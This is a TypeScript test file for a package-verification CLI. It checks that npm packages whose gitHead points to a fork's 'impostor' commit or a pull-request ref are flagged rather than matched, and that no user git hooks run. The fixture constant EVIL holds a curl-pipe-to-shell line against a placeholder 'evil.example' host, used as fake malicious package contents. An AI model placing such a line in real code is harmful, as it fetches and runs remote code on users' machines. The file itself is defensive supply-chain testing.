/**
 * Impostor commits: a host sharing one object store across a fork network (GitHub) serves any
 * commit of the network by id from the parent's URL, and advertises fork pull requests as
 * `refs/pull/*`. A commit counts as the repository's only when one of its branches or tags
 * leads to it. The git server here serves any commit by id (`uploadpack.allowAnySHA1InWant`)
 * and honours partial clone filters, as GitHub does.
 */
import { appendFileSync, mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { runCli } from './helpers/cli';
import { startGitServer, type GitServer } from './helpers/git-server';
import { manifestText, publishFiles } from './helpers/publish-files';
import { startRegistry, type TestRegistry } from './helpers/registry';

let git: GitServer;
let registry: TestRegistry;
let work: string;

const S = '@pg-fixture';
const SLUG = 'pg-fixture/project';
const URL = `https://github.com/${SLUG}`;
const repo = (directory?: string) => ({ type: 'git', url: `git+${URL}.git`, ...(directory ? { directory } : {}) });
const commits: Record<string, string> = {};

function env(): NodeJS.ProcessEnv {
  return { PATH: process.env.PATH, HOME: work, npm_config_userconfig: join(work, '.npmrc'), GIT_CONFIG_GLOBAL: git.gitConfig, GIT_CONFIG_NOSYSTEM: '1' };
}

interface Contents {
  verdict: string;
  commit?: string;
  commitFrom?: string;
  reason?: string;
}

async function verify(specs: string[], cwd = work): Promise<{ code: number; contents: Contents[] }> {
  const r = await runCli(cwd, ['verify', ...specs, '--format', 'json'], env());
  return { code: r.code, contents: (JSON.parse(r.stdout) as { packages: { contents: Contents }[] }).packages.map((p) => p.contents) };
}

const pkg = (name: string, version: string, directory?: string) => ({ name: `${S}/${name}`, version, main: 'index.js', repository: repo(directory) });
const EVIL = 'require("child_process").exec("curl https://evil.example | sh");\n';

beforeAll(async () => {
  work = mkdtempSync(join(tmpdir(), 'pg-forks-'));
  [git, registry] = await Promise.all([startGitServer(), startRegistry()]);
  writeFileSync(join(work, '.npmrc'), `registry=${registry.url}/\n`);
  // A user's hooks directory: the history fetch, like every git call, must run none of them.
  const hooks = join(work, 'hooks');
  mkdirSync(join(work, 'markers'));
  mkdirSync(hooks);
  for (const hook of ['reference-transaction', 'post-checkout', 'pre-auto-gc']) writeFileSync(join(hooks, hook), `#!/bin/sh\ntouch "${work}/markers/${hook}"\n`, { mode: 0o755 });
  appendFileSync(git.gitConfig, `[core]\n\thooksPath = ${hooks}\n`);

  // The project: a release commit (two packages of a monorepo), then main moves on.
  const a = pkg('fk-a', '1.0.0', 'packages/a');
  const b = pkg('fk-b', '1.0.0', 'packages/b');
  const release = {
    'package.json': manifestText({ name: 'project', private: true }),
    'packages/a/package.json': manifestText(a),
    'packages/a/index.js': 'module.exports = "a";\n',
    'packages/b/package.json': manifestText(b),
    'packages/b/index.js': 'module.exports = "b";\n',
  };
  commits.release = git.createRepo({ slug: SLUG, files: release });
  commits.main = git.commit(SLUG, { files: { ...release, 'packages/a/index.js': 'module.exports = "a2";\n' }, ref: 'refs/heads/main' });
  for (const [p, dir] of [[a, 'a'], [b, 'b']] as const) {
    await publishFiles(registry.url, { files: { 'package.json': manifestText(p), 'index.js': `module.exports = "${dir}";\n` }, metadata: { gitHead: commits.release } });
  }

  // A release only a tag leads to (lightweight, off main).
  const tagged = pkg('fk-tagged', '2.0.0');
  const taggedFiles = { 'package.json': manifestText(tagged), 'index.js': 'module.exports = 2;\n' };
  commits.tagged = git.commit(SLUG, { files: taggedFiles, ref: 'refs/tags/v2.0.0' });
  await publishFiles(registry.url, { files: taggedFiles });

  // The attacker's fork: a commit in the shared object store that no ref of the project names,
  // its tree exactly the malicious tarball, so comparing the two alone says match.
  const impostor = pkg('fk-impostor', '1.0.0');
  const impostorFiles = { 'package.json': manifestText(impostor), 'index.js': EVIL };
  commits.impostor = git.commit(SLUG, { files: impostorFiles });
  await publishFiles(registry.url, { files: impostorFiles, metadata: { gitHead: commits.impostor } });

  // A fork's pull request: GitHub advertises it as refs/pull/1/head.
  const pull = pkg('fk-pull', '1.0.0');
  const pullFiles = { 'package.json': manifestText(pull), 'index.js': EVIL };
  commits.pull = git.commit(SLUG, { files: pullFiles, ref: 'refs/pull/1/head' });
  await publishFiles(registry.url, { files: pullFiles, metadata: { gitHead: commits.pull } });

  // The project released fk-fallback@3.0.0 (tag fk-fallback@3.0.0); an impostor version of it
  // names a fork commit holding its own files.
  const fallback = pkg('fk-fallback', '3.0.0');
  commits.fallbackRelease = git.commit(SLUG, { files: { 'package.json': manifestText(fallback), 'index.js': 'module.exports = 3;\n' }, ref: 'refs/tags/fk-fallback@3.0.0' });
  const fallbackEvil = { 'package.json': manifestText(fallback), 'index.js': EVIL };
  commits.fallbackFork = git.commit(SLUG, { files: fallbackEvil, message: 'fork' });
  await publishFiles(registry.url, { files: fallbackEvil, metadata: { gitHead: commits.fallbackFork } });
}, 120_000);

afterAll(async () => {
  await Promise.all([git?.close(), registry?.close()]);
  rmSync(work, { recursive: true, force: true });
});

describe('a commit counts only when a branch or tag of the repository leads to it', () => {
  test("a gitHead no branch or tag leads to (a fork's commit) is inconclusive, though its tree matches; exit 0", async () => {
    const { code, contents } = await verify([`${S}/fk-impostor@1.0.0`]);
    expect(contents[0]!.verdict).toBe('inconclusive');
    expect(contents[0]!.reason).toBe(`gitHead ${commits.impostor!.slice(0, 12)} is not on any branch or tag of ${URL} (a commit from a fork, or of a deleted branch); ${URL} has no tag naming 1.0.0`);
    expect(contents[0]!.commit).toBeUndefined();
    expect(code).toBe(0);
  });

  test('a gitHead only refs/pull/* leads to (a fork pull request) is inconclusive', async () => {
    const { code, contents } = await verify([`${S}/fk-pull@1.0.0`]);
    expect(contents[0]!.verdict).toBe('inconclusive');
    expect(contents[0]!.reason).toContain(`gitHead ${commits.pull!.slice(0, 12)} is not on any branch or tag of ${URL}`);
    expect(code).toBe(0);
  });

  test("a gitHead in a branch's history (not its tip) matches", async () => {
    const { code, contents } = await verify([`${S}/fk-a@1.0.0`]);
    expect(contents[0]).toMatchObject({ verdict: 'match', commit: commits.release, commitFrom: 'gitHead' });
    expect(code).toBe(0);
  });

  test('a commit found by its tag matches, also when only the tag leads to it', async () => {
    const { code, contents } = await verify([`${S}/fk-tagged@2.0.0`]);
    expect(contents[0]).toMatchObject({ verdict: 'match', commit: commits.tagged, commitFrom: 'tag:v2.0.0' });
    expect(code).toBe(0);
  });

  test("an impostor gitHead falls back to the project's own version tag, and the difference shows", async () => {
    const { code, contents } = await verify([`${S}/fk-fallback@3.0.0`]);
    expect(contents[0]).toMatchObject({ verdict: 'diverged', commit: commits.fallbackRelease, commitFrom: 'tag:fk-fallback@3.0.0' });
    expect(contents[0]!.reason).toContain(`gitHead ${commits.fallbackFork!.slice(0, 12)} is not on any branch or tag of ${URL}`);
    expect(code).toBe(1);
  });

  test('a commit found on a branch is remembered: another package at that commit needs no git at all', async () => {
    const dir = mkdtempSync(join(work, 'cache-'));
    expect((await verify([`${S}/fk-a@1.0.0`], dir)).contents[0]!.verdict).toBe('match');
    const before = git.requests();
    expect((await verify([`${S}/fk-b@1.0.0`], dir)).contents[0]).toMatchObject({ verdict: 'match', commit: commits.release });
    expect(git.requests()).toBe(before);
  });

  test('not being on a branch is never remembered: once a branch leads to the commit, it counts', async () => {
    const dir = mkdtempSync(join(work, 'cache-'));
    expect((await verify([`${S}/fk-impostor@1.0.0`], dir)).contents[0]!.verdict).toBe('inconclusive');
    git.setRef(SLUG, 'refs/heads/merged', commits.impostor!);
    try {
      expect((await verify([`${S}/fk-impostor@1.0.0`], dir)).contents[0]).toMatchObject({ verdict: 'match', commit: commits.impostor, commitFrom: 'gitHead' });
    } finally {
      git.setRef(SLUG, 'refs/heads/merged', null);
    }
  });

  test('no hook of the user ran during any of it (history fetches included)', () => {
    expect(readdirSync(join(work, 'markers'))).toEqual([]);
  });
});
